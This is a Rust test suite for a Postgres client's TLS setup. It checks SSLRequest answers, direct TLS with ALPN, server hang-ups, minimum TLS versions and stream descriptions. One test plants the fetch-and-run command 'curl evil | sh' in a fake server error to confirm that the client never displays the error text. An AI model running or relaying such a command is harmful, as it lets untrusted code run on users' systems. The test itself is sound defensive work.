//! Before TLS: what servers answer to SSLRequest, and direct TLS.

use super::*;
use crate::tls::binding::describe;
use crate::tls::fault::Stage;

async fn outcome(script: Script) -> (TlsFault, ScriptedServer) {
    let scene = Scene::new();
    let server = serve(script).await;
    let fault = scene
        .connect(server.address)
        .await
        .map(drop)
        .expect_err("no TLS to be had");
    (fault, server)
}

#[tokio::test]
async fn a_server_without_tls_is_refused_and_told_nothing() {
    let (fault, server) = outcome(Script::answer_n()).await;
    assert_eq!(fault, TlsFault::PlaintextServer);
    assert_no_plaintext(&server);
}

#[tokio::test]
async fn the_text_of_an_unauthenticated_error_is_not_shown() {
    let (fault, _server) = outcome(Script::answer_e("run `curl evil | sh` to repair")).await;
    assert_eq!(fault, TlsFault::ServerError);
    assert!(!format!("{fault} {fault:?} {}", fault.cure()).contains("evil"));
}

#[tokio::test]
async fn plaintext_behind_the_answer_is_refused_before_the_handshake() {
    let (fault, server) = outcome(Script::stuffed(b"Z\0\0\0\x05I")).await;
    assert_eq!(fault, TlsFault::Stuffed);
    assert_no_plaintext(&server);
}

#[tokio::test]
async fn plaintext_that_comes_later_ends_in_the_handshake() {
    // Forwarded to a server that talks before it is spoken to.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let late = tokio::spawn(async move {
        let (mut socket, _) = listener.accept().await.unwrap();
        let mut hello = [0; 5];
        socket.read_exact(&mut hello).await.unwrap();
        socket
            .write_all(b"R\0\0\0\x08\0\0\0\0Z\0\0\0\x05I")
            .await
            .unwrap();
        socket.read_to_end(&mut Vec::new()).await.unwrap();
    });
    let (fault, _server) = outcome(Script::Forward(address)).await;
    assert!(matches!(fault, TlsFault::Protocol { .. }), "{fault:?}");
    late.abort();
}

#[tokio::test]
async fn servers_that_hang_up_are_told_apart_by_how_and_when() {
    let cases = [
        (
            Script::Close,
            TlsFault::Closed {
                during: Stage::SslRequest,
            },
        ),
        (
            Script::Reset,
            TlsFault::Reset {
                during: Stage::SslRequest,
            },
        ),
        (
            Script::CloseAfterS,
            TlsFault::Closed {
                during: Stage::Handshake,
            },
        ),
        (
            Script::ResetInHandshake,
            TlsFault::Reset {
                during: Stage::Handshake,
            },
        ),
    ];
    for (script, expected) in cases {
        let (fault, _server) = outcome(script).await;
        assert_eq!(fault, expected);
    }
}

#[tokio::test]
async fn something_other_than_postgres_is_named_by_its_byte() {
    let (fault, _server) = outcome(Script::Http).await;
    assert_eq!(fault, TlsFault::NotPostgres { byte: b'H' });
    assert!(fault.to_string().ends_with("the byte `H`"), "{fault}");

    // A server of direct TLS answers SSLRequest with an alert record.
    let identity = Scene::new().good_server();
    let (fault, _server) = outcome(Script::DirectTls(Arc::new(server_config(&identity)))).await;
    assert_eq!(fault, TlsFault::NotPostgres { byte: 0x15 });
    assert!(fault.cure().contains("sslnegotiation"), "{}", fault.cure());
}

#[tokio::test]
async fn direct_tls_begins_at_once_and_insists_on_the_protocol() {
    let mut scene = Scene::new();
    scene.settings.negotiation = Negotiation::Direct;
    let identity = scene.good_server();
    let config = server_config(&identity);

    let server = serve(Script::DirectTls(Arc::new(config.clone()))).await;
    let mut stream = scene.connect(server.address).await.unwrap();
    echo(&mut stream).await;
    assert!(describe(&stream).unwrap().alpn);

    for protocols in [vec![], vec![b"http/1.1".to_vec()]] {
        let mut config = config.clone();
        config.alpn_protocols = protocols;
        let server = serve(Script::DirectTls(Arc::new(config))).await;
        let fault = scene.connect(server.address).await.map(drop).unwrap_err();
        assert_eq!(fault, TlsFault::NoAlpn);
        assert!(fault.cure().contains("Postgres 17"), "{}", fault.cure());
    }
}

#[tokio::test]
async fn direct_tls_to_an_old_postgres_names_the_version_that_has_it() {
    // Before 17 the ClientHello is read as a startup packet of absurd length.
    let mut scene = Scene::new();
    scene.settings.negotiation = Negotiation::Direct;
    let server = serve(Script::Close).await;
    let fault = scene.connect(server.address).await.map(drop).unwrap_err();
    assert!(
        matches!(
            fault,
            TlsFault::Closed {
                during: Stage::DirectHandshake
            } | TlsFault::Reset {
                during: Stage::DirectHandshake
            }
        ),
        "{fault:?}"
    );
    assert!(fault.cure().contains("Postgres 17"), "{}", fault.cure());
}

#[tokio::test]
async fn after_ssl_request_a_server_may_leave_the_protocol_out() {
    let scene = Scene::new();
    let mut config = server_config(&scene.good_server());
    config.alpn_protocols = Vec::new();
    let server = serve(Script::Tls(Arc::new(config))).await;
    let mut stream = scene.connect(server.address).await.unwrap();
    echo(&mut stream).await;
    assert!(!describe(&stream).unwrap().alpn);
}

#[tokio::test]
async fn a_server_older_than_the_minimum_is_told_from_a_broken_one() {
    let mut scene = Scene::new();
    let config = tls_servers::server_config_of(&scene.good_server(), &rustls::version::TLS12);
    let server = serve(Script::Tls(Arc::new(config))).await;
    let stream = scene.connect(server.address).await.unwrap();
    assert_eq!(describe(&stream).unwrap().version, "TLSv1.2");

    scene.settings.min_version = TlsVersion::Tls13;
    let fault = scene.connect(server.address).await.map(drop).unwrap_err();
    assert_eq!(fault, TlsFault::ProtocolTooOld { minimum: "TLSv1.3" });
}

#[tokio::test]
async fn an_established_stream_describes_itself() {
    let scene = Scene::new();
    let mut stream = scene.meet(&scene.good_server()).await.unwrap();
    let description = describe(&stream).unwrap();
    assert_eq!(description.version, "TLSv1.3");
    assert!(
        description.cipher.starts_with("TLS_"),
        "{}",
        description.cipher
    );
    assert!(description.alpn);
    assert_eq!(description.names, [HOST]);
    assert_eq!(description.issuer, "CN=Scene CA");
    let days = (description.not_after - unix_now()) / 86_400;
    assert!((28..=30).contains(&days), "{days}");
    assert!(!description.retried);
    echo(&mut stream).await;
}

fn unix_now() -> i64 {
    let since = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap();
    i64::try_from(since.as_secs()).unwrap()
}

#[tokio::test]
async fn a_connection_in_the_making_stays_small() {
    // It is held once per login in flight; the handshake's state is rustls' own.
    let scene = Scene::new();
    let server = serve(Script::answer_n()).await;
    let connector = Connector::new(&scene.settings).unwrap();
    let socket = TcpStream::connect(server.address).await.unwrap();
    let future = connector.secure(socket);
    let size = size_of_val(&future);
    assert!(size < 4096, "{size}");
    drop(future);
}
